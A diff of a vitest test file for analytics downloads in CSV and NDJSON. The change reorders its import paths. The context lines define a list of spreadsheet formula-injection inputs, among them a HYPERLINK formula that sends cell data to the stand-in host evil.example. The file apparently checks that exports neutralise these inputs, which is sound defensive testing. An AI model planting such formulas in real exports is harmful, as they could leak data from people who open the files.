@@ -1,11 +1,11 @@
 /** Downloads of analytics: the same rows as CSV and NDJSON, safe to open in a spreadsheet. */
 import pg from "pg";
 import { afterAll, beforeAll, describe, expect, test } from "vitest";
-import { type Member, newMember } from "../../../test/service/dashboard.ts";
-import { importAll, recorded } from "../../../test/service/recorded.ts";
-import { newOrganization, type RunningService, type TestOrganization } from "../../../test/service/service.ts";
-import { createDatabase } from "../../../test/shared/database.ts";
-import { startService } from "../../../test/shared/service.ts";
+import { createDatabase } from "../shared/database.ts";
+import { startService } from "../shared/service.ts";
+import { type Member, newMember } from "./dashboard.ts";
+import { importAll, recorded } from "./recorded.ts";
+import { newOrganization, type RunningService, type TestOrganization } from "./service.ts";
 
 const now = Date.now();
 const hostile = ["=1+1", "+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "＝1+1", '=HYPERLINK("http://evil.example/?"&A1;"x")'];
